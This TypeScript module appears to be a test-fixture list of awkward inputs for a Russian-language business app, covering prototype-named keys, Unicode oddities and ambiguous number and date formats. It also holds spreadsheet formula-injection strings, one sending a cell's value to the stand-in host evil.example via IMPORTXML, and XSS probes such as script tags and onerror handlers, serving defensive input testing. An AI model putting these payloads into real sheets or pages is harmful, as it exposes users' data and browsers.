/** Names that every object has already: a table of ours keyed by what people type must not find them. */
export const INHERITED = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', 'prototype', 'length'];

/** Texts that a sheet may take for a formula, or for its own mark of a text. */
export const FORMULAS = [
  '=1+1',
  '=IMPORTXML("http://evil.example/?"&A1;"//a")',
  '=HYPERLINK("http://evil.example";"счёт")',
  '+7 900 123-45-67',
  '+A1',
  '-2+3',
  '-A1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  "''=1+1",
  '=',
  '+',
  '＝1+1',
];

/** Texts that a page or a mail may take for its own markup. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</td></table><a href="javascript:alert(1)">',
  '&lt;b&gt; &amp; &#60;',
  '${alert(1)} {{alert(1)}} <%= 1 %>',
];

/** Letters that count, order or show otherwise than one would think. */
const LETTERS = [
  'ООО «Рога и копыта»',
  'Ёлка ёж Ё',
  '👩‍👩‍👧 сделка 🚀',
  'e\u0301\u0323',
  '\u202eтекст наоборот',
  'שלום مرحبا',
  'a\u0000b\u0007',
  '\ud800',
  '\u200b\ufeff',
  '\u00a0 \u202f',
  'строка\nвторая\r\nтретья\u2028',
  'x'.repeat(500),
];

/** What is a number or a date to one reader and not to another. */
const READINGS = [
  ...['1 234,56 ₽', '1\u00a0234,56', '1.234,56', '1,234.56', '12.500', '12,5O', '5%', '-5 %', '0,05', '−3'],
  ...['1e309', '-1e309', '1e-400', '5e-324', '0x10', '٣', '½', '∞', '9'.repeat(40), `0.${'0'.repeat(40)}1`],
  ...['26.01.2026', '26.01.26', '31.02.2026', '29.02.2025', '29.02.2028', '2026-06-17T14:05:00Z', '9999-12-31'],
  ...['0000-00-00', '26.01.2026 24:00', '26.01.2026 14:05', '00:00', '24:00', '1900-01-01'],
  ...['#N/A', '#REF!', '#ДЕЛ/0!', 'TRUE', 'ложь', 'да', 'нет', 'без лимита', 'no limit', 'NaN', 'Infinity', 'null'],
  ...['пн-пт 09:00-18:00', 'вс-пн 22:00-02:00', 'пн-пт 18:00-09:00', '30;60;90;120', '90;30', ';;;', '0;0'],
];

export const SNARES: readonly string[] = [...INHERITED, ...FORMULAS, ...MARKUP, ...LETTERS, ...READINGS];
